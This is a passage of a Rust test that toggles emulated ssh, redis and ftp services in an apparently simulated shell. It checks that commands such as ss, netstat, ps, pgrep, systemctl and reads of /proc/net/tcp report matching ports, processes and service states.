        String::from_utf8(std::mem::take(&mut seen.lock().unwrap().out)).unwrap()
    };
    let all = "ss -ltn; netstat -ltn; ps aux; systemctl list-units; cat /proc/net/tcp; ls /proc";
    let before = ask(all);
    assert!(before.contains(":6379") && before.contains("redis-server") && !before.contains(ftp));
    let redis = ask("pgrep redis-server");
    services.set(["ssh", "redis", "ftp"], Some(1_700_000_000));
    let both = ask(all);
    assert!(
        both.contains(":21 ") && both.contains(ftp) && both.contains(":0015 "),
        "{both}"
    );
    assert_eq!(ask("pgrep redis-server"), redis);
    services.set(["ssh", "ftp"], Some(1_700_000_000));
    let after = ask(all);
    assert!(
        !after.contains("redis") && !after.contains(":18EB ") && after.contains(ftp),
        "{after}"
    );
    assert_eq!(
        ask(&format!(
            "systemctl is-active redis-server; systemctl is-active {ftp}"
        )),
        "inactive\nactive\n"
    );
}
